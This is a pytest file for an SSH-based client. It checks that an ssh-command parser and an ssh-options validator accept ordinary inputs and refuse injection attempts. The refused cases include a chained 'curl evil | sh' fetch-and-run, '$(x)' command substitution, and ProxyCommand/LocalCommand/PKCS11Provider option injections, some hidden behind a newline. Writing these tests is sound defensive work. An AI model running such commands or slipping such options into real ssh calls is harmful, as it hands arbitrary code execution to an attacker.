"""The ssh_command parser and the ssh_options check: what they accept and what they refuse."""

from __future__ import annotations

import pytest

from autodl_tui.config import ConfigError, parse_settings
from autodl_tui.shell.client import SshClient, shell_argv, tunnel_argv
from autodl_tui.shell.options import check_ssh_options
from autodl_tui.shell.target import SshTarget, TargetError, parse_ssh_command


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("ssh -p 21305 root@region-1.autodl.com", SshTarget("region-1.autodl.com", 21305, "root")),
        (
            "ssh -p 40022 root@connect.westb.seetacloud.com",
            SshTarget("connect.westb.seetacloud.com", 40022, "root"),
        ),
        ("ssh -p 2222 root@127.0.0.1", SshTarget("127.0.0.1", 2222, "root")),
    ],
)
def test_the_service_shape_parses(command: str, expected: SshTarget) -> None:
    assert parse_ssh_command(command) == expected


@pytest.mark.parametrize(
    "command",
    [
        "",
        "ssh -p 22 root@host; curl evil | sh",
        "ssh -p 22 root@host\n",
        "ssh -oProxyCommand=x -p 22 root@host",
        "ssh -p 22 -oProxyCommand=touch root@host",
        "ssh -p 0 root@host",
        "ssh -p 70000 root@host",
        "ssh -p 22 -root@host",
        "ssh -p 22 root@-oProxyCommand=x",
        "ssh -p 22 root@.host",
        "ssh root@host",
        "ssh -p 22 root@host extra",
        " ssh -p 22 root@host",
        "ssh -p 22 root@ho$(x)st",
    ],
)
def test_anything_else_is_refused(command: str) -> None:
    with pytest.raises(TargetError):
        parse_ssh_command(command)


def test_the_argv_has_no_password_and_the_destination_after_the_options() -> None:
    client = SshClient("/usr/bin/ssh", (9, 2))
    target = SshTarget("h.example", 2200, "root")
    argv = shell_argv(client, target, ["-o", "ServerAliveInterval=30"])
    assert argv[-2:] == ["--", "root@h.example"]
    assert argv[argv.index("-p") + 1] == "2200"
    # ssh keeps the first value of an -o option: ours come before the user's.
    assert argv.index("NumberOfPasswordPrompts=1") < argv.index("ServerAliveInterval=30")
    forward = tunnel_argv(client, target, [], local_port=16006, remote_port=6006)
    assert "127.0.0.1:16006:localhost:6006" in forward
    assert "-N" in forward and "ExitOnForwardFailure=yes" in forward


@pytest.mark.parametrize(
    "options",
    [
        [],
        ["-o", "StrictHostKeyChecking=accept-new"],
        ["-oServerAliveInterval=30", "-v", "-4"],
        ["-F", "/dev/null", "-i", "~/.ssh/id_autodl", "-J", "jump@bastion"],
        ["-vvv", "-o", "Ciphers aes256-ctr"],
    ],
)
def test_ordinary_options_pass(options: list[str]) -> None:
    assert check_ssh_options(options) == options


@pytest.mark.parametrize(
    ("options", "says"),
    [
        (["-o", "ProxyCommand=nc %h %p"], "proxycommand"),
        (["-oProxyCommand=sh"], "proxycommand"),
        (["-o", "localcommand touch /tmp/x"], "localcommand"),
        (["-o", "PermitLocalCommand=yes"], "permitlocalcommand"),
        (["-o", "KnownHostsCommand=/bin/x"], "knownhostscommand"),
        (["-o", "PKCS11Provider=/lib/x.so"], "pkcs11provider"),
        (["-I", "/lib/x.so"], "-I"),
        (["evil@host"], "not an option"),
        (["-o"], "needs an argument"),
        (["-v", "ls"], "not an option"),
        (["-Z"], "not an ssh option"),
        (["-o", "Server\x1bAlive=1"], "control character"),
        (["-o", "X=1\nProxyCommand=sh"], "control character"),
        ([""], "empty"),
        ("-v", "list of strings"),
        ([1, 2], "list of strings"),
    ],
)
def test_dangerous_or_malformed_options_are_refused(options: object, says: str) -> None:
    with pytest.raises(ValueError, match="(?i)" + says.replace("-", r"\-")):
        check_ssh_options(options)


def test_the_config_file_names_the_key() -> None:
    settings = parse_settings({"ssh_options": ["-o", "StrictHostKeyChecking=accept-new"]})
    assert settings.ssh_options == ["-o", "StrictHostKeyChecking=accept-new"]
    with pytest.raises(ConfigError, match="ssh_options: .*proxycommand"):
        parse_settings({"ssh_options": ["-o", "ProxyCommand=sh -c x"]})
    with pytest.raises(ConfigError, match="did you mean 'ssh_options'"):
        parse_settings({"ssh_option": []})
